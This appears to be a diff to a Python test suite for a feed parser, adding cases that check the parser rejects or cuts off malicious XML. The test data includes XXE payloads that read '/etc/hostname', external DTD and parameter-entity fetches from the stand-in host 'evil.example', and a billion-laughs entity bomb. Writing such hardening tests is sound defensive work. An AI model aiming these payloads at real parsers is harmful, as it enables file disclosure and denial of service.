@@ -38,8 +38,8 @@ def test_an_entry_is_read() -> None:
         f'<!DOCTYPE feed [<!ENTITY l0 "ha">{LAUGHS}]><feed {NS}><title>&l9;</title></feed>'.encode(),
         f'<!DOCTYPE feed [<!ENTITY f SYSTEM "file:///etc/hostname">]><feed {NS}>&f;</feed>'.encode(),
         f'<!DOCTYPE feed SYSTEM "https://evil.example/x.dtd"><feed {NS}/>'.encode(),
-        f"<feed {NS}>{'<a>' * 100}{'</a>' * 100}</feed>".encode(),
-        f"<feed {NS}>{'<entry/>' * 500}</feed>".encode(),
+        f'<!DOCTYPE feed [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><feed {NS}/>'.encode(),
+        f'<!DOCTYPE feed [<!ENTITY a "b">]><feed {NS}/>'.encode("utf-16"),
         f"<feed {NS}>&unknown;</feed>".encode(),
         b'<?xml version="1.0" encoding="shift_jis"?><feed/>',
         b'<?xml version="1.0" encoding="no-such"?><feed/>',
@@ -48,6 +48,12 @@ def test_an_entry_is_read() -> None:
 )
 def test_what_is_no_feed(body: bytes) -> None:
     assert read_feed(body) is None
+
+
+def test_much_too_much_is_cut_off() -> None:
+    deep = "<a>" * 50_000 + "</a>" * 50_000
+
+    assert read_feed(f"<feed {NS}>{deep}{'<entry/>' * 500}</feed>".encode()) == [Entry()] * 200
 
 
 @given(st.binary(max_size=200) | st.text(alphabet="<>/&;!?[]' entryfd=x").map(str.encode))
